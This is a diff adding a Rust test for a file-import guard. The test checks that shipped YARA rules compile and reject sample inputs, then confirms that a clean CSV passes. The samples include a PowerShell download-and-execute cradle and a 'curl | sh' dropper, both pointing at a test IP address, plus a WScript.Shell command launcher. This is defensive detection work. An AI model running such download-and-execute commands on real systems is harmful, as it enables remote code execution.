@@ -379,3 +379,62 @@ fn unreadable_files_and_bad_settings_are_refused_at_load() {
         assert!(matches!(e, GuardError::Settings { .. }), "{bad}: {e}");
     }
 }
+
+/// The shipped example rules (examples/yara/import.yar, named by the
+/// example policy's import profile) and the bench's rule set compile, and
+/// catch what their names say, not clean data.
+#[test]
+fn the_shipped_rules_compile_and_catch_what_they_name() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/..");
+    let example = format!("{dir}/examples/yara/import.yar");
+    let bench = format!("{dir}/guard/benches/yara-bench.yar");
+    let settings = serde_json::json!({
+        "allowed_types": ["text/*"],
+        "yara": { "rules": [example, bench] },
+    });
+    let g = Guard::new(
+        Profile::from_settings("import", &settings, &ferry_guard::FsLists).expect("compiles"),
+    );
+    let files = g.profile().yara().expect("yara").files().to_vec();
+    assert_eq!((files[0].rules, files[1].rules), (5, 15));
+    let cases = [
+        (
+            "setup.txt",
+            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\n",
+            "PowerShell_Download_Cradle",
+        ),
+        (
+            "install.txt",
+            "curl -fsSL http://203.0.113.9/i.sh | sh\n",
+            "Script_Dropper_Shell",
+        ),
+        (
+            "run.txt",
+            "Set o = CreateObject(\"WScript.Shell\")\no.Run \"cmd /c calc\"\n",
+            "Windows_Script_Host",
+        ),
+    ];
+    for (name, text, rule) in cases {
+        let r = inspect(&g, text.as_bytes(), name, "text/plain");
+        assert_eq!(r.verdict, Verdict::Reject, "{name}: {:#?}", r.reasons);
+        let rules: Vec<&str> = r
+            .yara
+            .as_ref()
+            .expect("yara")
+            .matches
+            .iter()
+            .map(|m| m.rule.as_str())
+            .collect();
+        assert!(
+            rules.contains(&format!("import:{rule}").as_str()),
+            "{name}: {rules:?}"
+        );
+        assert!(
+            rules.contains(&format!("yara-bench:{rule}").as_str()),
+            "{name}: {rules:?}"
+        );
+    }
+    let clean = "district,households,note\nA,10,the survey of the district\nB,12,downloaded from the portal\n";
+    let r = inspect(&g, clean.as_bytes(), "counts.csv", "text/csv");
+    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
+}
